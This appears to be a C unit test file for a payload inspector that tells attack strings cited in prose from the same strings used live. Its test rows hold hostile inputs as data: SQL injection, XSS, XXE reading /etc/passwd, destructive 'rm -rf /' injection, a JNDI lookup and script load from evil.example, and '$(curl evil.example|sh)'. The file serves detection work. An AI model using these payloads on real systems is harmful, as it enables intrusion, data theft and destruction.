/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks that a text only mentions, beside the same attacks in use: what tells one from the other is what stands around. */
#include "inspect/inspect.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "../../lib/scratch.h"

enum expected {
	CITED,
	ATTACK,
};

static const struct row {
	enum expected expected;
	enum gb_attack_class attack_class;
	const char *text;
} rows[] = {
        /* Frames: quotes, code marks, fences. */
        {CITED, GB_CLASS_SQL_INJECTION,
                "The scanner reported \"' OR 1=1 -- \" in the name parameter, please have a look."},
        {CITED, GB_CLASS_SQL_INJECTION,
                "If I send `' UNION SELECT 1,2 -- ` to the search endpoint, the server answers 500."},
        {CITED, GB_CLASS_CSV_INJECTION,
                "Our filter does not catch this one:\n\n```\n=cmd|' /C calc'!A0\n```\n\nWhich rule is missing?"},
        {CITED, GB_CLASS_XSS, "Our filter lets `<script>alert(1)</script>` through since the last update."},
        {CITED, GB_CLASS_COMMAND_INJECTION, "A host of \"8.8.8.8; rm -rf /\" runs two commands in this function."},
        {CITED, GB_CLASS_TEMPLATE,
                "In the docs `{{ ''.__class__.__mro__ }}` is the usual example of an attack on templates."},
        {CITED, GB_CLASS_DESERIALIZATION,
                "The scanner sent \"!!python/object/apply:os.system ['id']\" to our endpoint, and the parser rejected "
                "it."},
        {CITED, GB_CLASS_XML_ENTITY,
                "The parser must reject this input: <!DOCTYPE a [<!ENTITY b SYSTEM "
                "\"file:///etc/passwd\">]><a>&b;</a>"},
        /* Sentences that go on. */
        {CITED, GB_CLASS_SQL_INJECTION,
                "When a user types ' or 1=1 -- into the search box, our page shows an error message."},
        {CITED, GB_CLASS_XSS,
                "Our pen tester typed <script>alert(1)</script> into the \"City\" field and got a popup."},
        /* Other languages. */
        {CITED, GB_CLASS_SQL_INJECTION,
                "Si el usuario escribe \"' or 1=1 -- \" en el campo, la consulta devuelve todos los datos."},
        {CITED, GB_CLASS_XSS,
                "Ein Kunde gibt \"<script>alert(1)</script>\" in das Formular ein, und die Seite zeigt einen Fehler."},
        /* In use: nothing around, a comment around, or the talk of something else. */
        {ATTACK, GB_CLASS_SQL_INJECTION, "' OR 1=1 -- "},
        {ATTACK, GB_CLASS_SQL_INJECTION, "\"' OR 1=1 -- \""},
        {ATTACK, GB_CLASS_SQL_INJECTION, "Anna' OR 1=1 -- "},
        {ATTACK, GB_CLASS_XSS, "Great article, thank you very much for writing this! <script>alert(1)</script>"},
        {ATTACK, GB_CLASS_XSS,
                "I really love this recipe. <img src=x onerror=alert(1)> We will cook it again on Sunday."},
        {ATTACK, GB_CLASS_XSS,
                "My grandmother said \"<script>alert(1)</script>\" and we laughed for a very long time."},
        /* What reaches out is an attack in a sentence of whatever kind. */
        {ATTACK, GB_CLASS_XSS,
                "Our tester typed <script src=//evil.example/x.js></script> into the field and got a popup."},
        {ATTACK, GB_CLASS_TEMPLATE, "Our tester typed \"{{ ''.__class__.__mro__ }}\" into the field and got an error."},
        {ATTACK, GB_CLASS_NAMING_LOOKUP,
                "Our scanner sent `${jndi:ldap://evil.example/a}` to the server and it was in the log."},
        {ATTACK, GB_CLASS_COMMAND_INJECTION, "Thank you for the nice stay at your hotel; $(curl evil.example|sh)"},
        /* A mention in front of it. */
        {ATTACK, GB_CLASS_XSS, "The page lets `<script>alert(1)</script>` through.\n<img src=x onerror=alert(1)>"},
};

static void inspect(const char *text, bool is_strict, struct gb_inspect_report *ret_report)
{
	const struct gb_inspect_options options = {.is_strict = is_strict};

	gb_inspect_value(&options, gb_span_cstr(text), scratch, ret_report);
}

static bool is_as_expected(const struct row *row)
{
	struct gb_inspect_report report;

	inspect(row->text, false, &report);
	if (row->expected == ATTACK)
		return report.finding_count != 0;
	return report.finding_count == 0 && report.cited_count != 0 &&
	       report.cited[0].attack_class == row->attack_class && report.cited[0].confidence == GB_CONFIDENCE_LOW &&
	       report.cited[0].from + report.cited[0].length <= report.cited[0].value.n;
}

static void test_mentions(void **state)
{
	unsigned bad = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		if (is_as_expected(&rows[i]))
			continue;
		bad++;
		print_error("not as expected: %s\n", rows[i].text);
	}
	assert_int_equal(bad, 0);
}

/* Strict mode knows no mentions. */
static void test_strict(void **state)
{
	struct gb_inspect_report report;
	unsigned bad = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		inspect(rows[i].text, true, &report);
		if (report.finding_count != 0 && report.cited_count == 0)
			continue;
		bad++;
		print_error("not found in strict mode: %s\n", rows[i].text);
	}
	assert_int_equal(bad, 0);
}

/* Prose alone mentions nothing. */
static void test_nothing(void **state)
{
	struct gb_inspect_report report;

	(void)state;
	inspect("The user types a value into the search field of our page, and the server returns an error.", false,
	        &report);
	assert_int_equal(report.finding_count, 0);
	assert_int_equal(report.cited_count, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(test_mentions),
	        cmocka_unit_test(test_strict),
	        cmocka_unit_test(test_nothing),
	};

	return run_tests_with_scratch(tests);
}
